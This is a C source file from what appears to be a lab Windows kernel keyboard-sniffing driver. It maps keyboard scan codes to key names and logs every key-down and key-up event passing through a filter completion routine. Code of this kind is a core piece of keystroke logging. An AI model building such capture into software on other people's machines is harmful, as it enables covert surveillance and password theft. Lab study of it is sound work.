/*
 * scancode.c - set 1 make code -> printable name, only the ones
 * we care about for the lab.  Anything else is printed as hex.
 */
#include "kbdsniff.h"

typedef struct _KBS_KEYNAME {
    USHORT  Code;
    PCSTR   Name;
} KBS_KEYNAME;

static const KBS_KEYNAME g_KeyNames[] = {
    { 0x01, "ESC"   }, { 0x0E, "BKSP"  }, { 0x0F, "TAB"   },
    { 0x1C, "ENTER" }, { 0x1D, "CTRL"  }, { 0x2A, "LSHIFT"},
    { 0x36, "RSHIFT"}, { 0x38, "ALT"   }, { 0x39, "SPACE" },
    { 0x3A, "CAPS"  }, { 0x45, "NUM"   }, { 0x46, "SCROLL"},
    { 0x10, "q" }, { 0x11, "w" }, { 0x12, "e" }, { 0x13, "r" },
    { 0x14, "t" }, { 0x15, "y" }, { 0x16, "u" }, { 0x17, "i" },
    { 0x18, "o" }, { 0x19, "p" }, { 0x1E, "a" }, { 0x1F, "s" },
    { 0x20, "d" }, { 0x21, "f" }, { 0x22, "g" }, { 0x23, "h" },
    { 0x24, "j" }, { 0x25, "k" }, { 0x26, "l" }, { 0x2C, "z" },
    { 0x2D, "x" }, { 0x2E, "c" }, { 0x2F, "v" }, { 0x30, "b" },
    { 0x31, "n" }, { 0x32, "m" },
};

PCSTR
KbsScanCodeName(USHORT MakeCode)
{
    ULONG i;

    for (i = 0; i < RTL_NUMBER_OF(g_KeyNames); i++) {
        if (g_KeyNames[i].Code == MakeCode) {
            return g_KeyNames[i].Name;
        }
    }
    return NULL;
}

/* runs from the completion routine, so DISPATCH_LEVEL is possible: no paging here */
VOID
KbsDumpKeys(PKEYBOARD_INPUT_DATA Keys, ULONG Count, PULONG Total)
{
    ULONG i;
    PCSTR name;

    for (i = 0; i < Count; i++) {
        name = KbsScanCodeName(Keys[i].MakeCode);
        if (name != NULL) {
            KBS_LOG("key %-6s %s%s\n", name,
                    (Keys[i].Flags & KEY_BREAK) ? "up" : "down",
                    (Keys[i].Flags & KEY_E0) ? " (E0)" : "");
        } else {
            KBS_LOG("key 0x%02X   %s\n", Keys[i].MakeCode,
                    (Keys[i].Flags & KEY_BREAK) ? "up" : "down");
        }
        if (!(Keys[i].Flags & KEY_BREAK)) {
            (*Total)++;
        }
    }
}
